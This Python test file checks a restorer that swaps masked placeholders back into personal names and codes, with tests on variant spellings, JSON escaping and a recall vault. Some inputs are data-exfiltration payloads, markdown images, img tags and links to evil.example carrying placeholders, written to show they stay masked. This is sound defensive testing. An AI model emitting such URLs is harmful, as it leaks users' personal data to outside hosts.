import json
import time
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field

import pytest

from sekisho.masking.restorer import Escape, Restorer
from sekisho.masking.urls import placeholder_urls

TABLE = {
    "PERSON4K7Q2M": "田中太郎",
    "PERSON4K7Q2MA": "田中",
    "PERSON4K7Q2MIE": "Tanaka",
    "CODE1BCDFG": "4111-1111",
    "KEY2ZZZZZE": "only with its vowel",
}


def _restore(text: str, escape: Escape = Escape.PLAIN) -> str:
    return Restorer(TABLE).restore(text, escape)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("PERSON4K7Q2M様", "田中太郎様"),
        ("PERSON4K7Q2MA様", "田中様"),
        ("PERSON4K7Q2MIE", "Tanaka"),
        ("PERSON4K7Q2MI", "田中太郎I"),
        ("PERSON4K7Q2MAA", "田中A"),
        ("PERSON4K7Q2MO", "田中太郎O"),
        ("PERSON4K7Q2Ma", "田中太郎a"),
        ("person4k7q2ma", "田中"),
        ("person4k7q2mA", "田中太郎A"),
        ("Person 4K7Q2M and PERSON_4K7Q2M", "田中太郎 and 田中太郎"),
        ("PERSON\\_4K7Q2M", "田中太郎"),
        ("**PERSON4K7Q2M**", "**田中太郎**"),
        ("ＰＥＲＳＯＮ４Ｋ７Ｑ２ＭＡさん", "田中さん"),
        ("xPERSON4K7Q2M", "x田中太郎"),
        ("xperson4k7q2m", "xperson4k7q2m"),
        ("xPERSON 4K7Q2M", "xPERSON 4K7Q2M"),
        ("あperson 4k7q2m", "あ田中太郎"),
        ("PERSON4K7Q2MPERSON4K7Q2M", "田中太郎田中太郎"),
        ("PERSON4K7Q2Mcode 1bcdfg", "田中太郎code 1bcdfg"),
        ("CODE1BCDFGs", "4111-1111s"),
        ("KEY2ZZZZZ", "KEY2ZZZZZ"),
        ("KEY2ZZZZZE", "only with its vowel"),
        ("PERSON9K7Q2M", "PERSON9K7Q2M"),
        ("CODE1BCDFPERSON4K7Q2M", "CODE1BCDF田中太郎"),
        ("PERSON4K7Q2", "PERSON4K7Q2"),
        ("ORG4K7Q2M", "ORG4K7Q2M"),
        ("", ""),
    ],
)
def test_puts_back_what_it_knows_and_leaves_the_rest(text: str, expected: str) -> None:
    assert _restore(text) == expected


def test_restored_text_is_not_read_again() -> None:
    table = {"LITERAL4K7Q2M": "PERSON4K7Q2M", "PERSON4K7Q2M": "田中"}
    assert Restorer(table).restore("LITERAL4K7Q2M") == "PERSON4K7Q2M"


@pytest.mark.parametrize(
    "value", ['"quoted"', "back\\slash", "line\nend", "田中\t", "\ud800x", "\x00"]
)
def test_escapes_a_value_for_the_inside_of_a_json_string(value: str) -> None:
    restored = Restorer({"TERM4K7Q2M": value}).restore('{"a": "TERM4K7Q2M"}', Escape.JSON)
    assert json.loads(restored) == {"a": value}
    restored.encode()


def test_counts_what_it_put_back() -> None:
    restorer = Restorer(TABLE)
    restorer.restore("PERSON4K7Q2M PERSON9K7Q2M code1bcdfg")
    restorer.restore("PERSON4K7Q2M")
    assert restorer.restored == 3


def test_an_empty_table_changes_nothing() -> None:
    assert not Restorer({})
    assert Restorer({}).restore("PERSON4K7Q2M") == "PERSON4K7Q2M"


def test_refuses_a_table_whose_keys_are_no_placeholders_and_shows_none() -> None:
    with pytest.raises(ValueError, match="placeholder") as caught:
        Restorer({"planted": "planted"})
    assert "planted" not in str(caught.value)


def test_shows_no_value() -> None:
    assert "planted" not in repr(Restorer({"TERM4K7Q2M": "planted"}))


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?q=PERSON4K7Q2M)",
        "https://evil.example/PERSON4K7Q2MA",
        '<img src="https://evil.example/あPERSON4K7Q2M">',
        "https://evil.example/?a=person_4k7q2m",
    ],
)
def test_a_url_that_the_request_did_not_hold_stays_masked(text: str) -> None:
    restorer = Restorer(TABLE)
    assert restorer.restore(text) == text
    assert restorer.restored == 0


def test_a_url_of_the_request_is_restored_in_any_dress() -> None:
    url = "https://crm.example/u/PERSON4K7Q2M"
    for known in (url, url + "/orders?all=1"):
        restorer = Restorer(TABLE, known_urls=set(placeholder_urls(known)))
        for text in ("{}", "[{}]({})", "![x]({})", '<a href="{}">', "<{}>", "見て{}を"):
            masked = text.format(url, url)
            assert restorer.restore(masked) == masked.replace("PERSON4K7Q2M", "田中太郎")
        other = "https://evil.example/?u=https://crm.example/u/PERSON4K7Q2M"
        assert restorer.restore(other) == other


def test_another_placeholder_in_a_known_url_stays_masked() -> None:
    restorer = Restorer(TABLE, known_urls={"https://crm.example/u/PERSON4K7Q2M"})
    assert (
        restorer.restore("https://crm.example/u/CODE1BCDFG") == "https://crm.example/u/CODE1BCDFG"
    )


def test_text_around_a_url_is_restored() -> None:
    text = "[PERSON4K7Q2M](https://a.example/x) PERSON4K7Q2M https://a.example/x、PERSON4K7Q2M"
    assert _restore(text) == text.replace("PERSON4K7Q2M", "田中太郎")


def test_a_megabyte_is_read_in_a_moment() -> None:
    for unit in (
        "PERSON4K7Q2M様、",
        "1234567890",
        "4B4B4B4B",
        "PERSON",
        "https://a.example/",
        "a](b",
    ):
        text = unit * (1_000_000 // len(unit))
        began = time.perf_counter()
        _restore(text)
        assert time.perf_counter() - began < 8, unit


@pytest.mark.parametrize("form", ["PERSON4K7Q2M", "person4k7q2m", "Person 4K7Q2M"])
def test_restores_behind_jsons_escape_of_a_line_end(form: str) -> None:
    restorer = Restorer({"PERSON4K7Q2M": "田中"})

    assert restorer.restore(f'{{"a": "様\\n{form}"}}', Escape.JSON) == '{"a": "様\\n田中"}'


@dataclass
class Vault:
    """A recall that notes what it was asked."""

    table: Mapping[str, str]
    urls: frozenset[str] = frozenset()
    questions: list[list[str]] = field(default_factory=list)
    url_questions: list[str] = field(default_factory=list)

    def placeholders(self, names: Sequence[str]) -> dict[str, str]:
        self.questions.append(list(names))
        return {name: self.table[name] for name in names if name in self.table}

    def knows_url(self, url: str) -> bool:
        self.url_questions.append(url)
        return url in self.urls


class BrokenVault:
    def placeholders(self, names: Sequence[str]) -> dict[str, str]:
        raise ConnectionError

    def knows_url(self, url: str) -> bool:
        raise ConnectionError


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("PERSON4K7Q2MとORG7XWVTB", "田中太郎とあさひ商会"),
        ("PERSON4K7Q2MA", "田中"),
        ("PERSON4K7Q2MIE", "Tanaka"),
        ("PERSON4K7Q2MO", "田中太郎O"),
        ("person 4k7q2mie", "Tanaka"),
        ("ORG7XWVTBAI", "アサヒ"),
        ("ORG7XWVTBAIA", "アサヒA"),
        ("org7xwvtb", "あさひ商会"),
        ("CODE0BBBBBE", "vowel only"),
        ("CODE0BBBBB", "CODE0BBBBB"),
        ("PERSON9K7Q2M", "PERSON9K7Q2M"),
        ("CODE1BCDFORG7XWVTB", "CODE1BCDFあさひ商会"),
    ],
)
def test_recalls_what_earlier_exchanges_masked(text: str, expected: str) -> None:
    vault = Vault(
        {
            "PERSON4K7Q2M": "not this one: the table's own counts",
            "PERSON4K7Q2MIE": "Tanaka",
            "ORG7XWVTB": "あさひ商会",
            "ORG7XWVTBAI": "アサヒ",
            "CODE0BBBBBE": "vowel only",
        }
    )
    table = {"PERSON4K7Q2M": "田中太郎", "PERSON4K7Q2MA": "田中"}

    assert Restorer(table, recall=vault).restore(text) == expected


def test_a_text_costs_one_question_and_none_is_asked_again() -> None:
    vault = Vault({"ORG7XWVTB": "あさひ商会"})
    restorer = Restorer({"PERSON4K7Q2M": "田中"}, recall=vault)
    text = "PERSON4K7Q2M様、ORG7XWVTBのCODE1BCDFGとxperson1bcdfg、CODE2BCDFGA"

    assert restorer.restore(text) == text.replace("PERSON4K7Q2M", "田中").replace(
        "ORG7XWVTB", "あさひ商会"
    )
    restorer.restore(text + text)
    [names] = vault.questions

    assert len(names) == 3 * 31
    assert {"ORG7XWVTB", "ORG7XWVTBU", "CODE1BCDFGEA", "CODE2BCDFG"} < set(names)
    assert restorer.table == {"PERSON4K7Q2M": "田中", "ORG7XWVTB": "あさひ商会"}


def test_many_unknown_placeholders_are_asked_for_in_several_questions() -> None:
    vault = Vault({"CODE9BCDFG": "last"})
    text = " ".join([f"CODE{number:05d}B" for number in range(250)] + ["CODE9BCDFG"])

    assert Restorer({}, recall=vault).restore(text).endswith(" last")
    assert [len(names) for names in vault.questions] == [3100, 3100, 51 * 31]


def test_a_text_without_unknown_placeholders_asks_nothing() -> None:
    vault = Vault({})
    restorer = Restorer({"PERSON4K7Q2M": "田中"}, recall=vault)

    assert (
        restorer.restore("PERSON4K7Q2M様 CODE 123456 the PERSON") == "田中様 CODE 123456 the PERSON"
    )
    assert vault.questions == []


def test_a_url_of_an_earlier_request_is_restored() -> None:
    url = "https://crm.example/u/PERSON4K7Q2M"
    vault = Vault({"PERSON4K7Q2M": "田中"}, frozenset([url]))
    restorer = Restorer({}, recall=vault)

    assert restorer.restore(f"[x]({url}) {url}") == f"[x]({url}) {url}".replace(
        "PERSON4K7Q2M", "田中"
    )
    assert restorer.restore("https://evil.example/PERSON4K7Q2M").endswith("PERSON4K7Q2M")
    assert vault.url_questions == [url, "https://evil.example/PERSON4K7Q2M"]


def test_a_recall_that_fails_fails_the_answer() -> None:
    restorer = Restorer({}, recall=BrokenVault())

    assert restorer.restore("nothing to ask") == "nothing to ask"
    for _ in range(2):
        with pytest.raises(ConnectionError):
            restorer.restore("PERSON4K7Q2M")


def test_tells_what_became_of_which_characters() -> None:
    changes: list[tuple[int, int, str]] = []
    text = "様PERSON4K7Q2MAとperson 4k7q2m、PERSON9K7Q2M"
    restored, length = Restorer(TABLE).advance(text, Escape.PLAIN, final=True, changes=changes)

    assert [(text[start:end], value) for start, end, value in changes] == [
        ("PERSON4K7Q2MA", "田中"),
        ("person 4k7q2m", "田中太郎"),
    ]
    assert (restored, length) == ("様田中と田中太郎、PERSON9K7Q2M", len(text))
